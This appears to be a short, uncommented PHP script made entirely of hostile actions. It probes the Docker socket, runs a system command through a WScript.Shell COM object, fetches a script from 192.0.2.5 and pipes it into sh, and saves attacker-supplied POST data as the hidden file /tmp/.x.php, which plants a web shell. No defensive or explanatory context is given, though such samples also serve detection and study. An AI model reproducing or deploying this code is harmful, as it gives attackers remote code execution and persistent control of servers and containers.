<?php
$s = fsockopen("unix:///var/run/docker.sock");
fwrite($s, "GET / HTTP/1.0\r\n\r\n");
$c = new COM('WScript.Shell');
$c->Run('cmd /c whoami');
system('curl http://192.0.2.5/x | sh');
file_put_contents('/tmp/.x.php', $_POST['a']);
?>
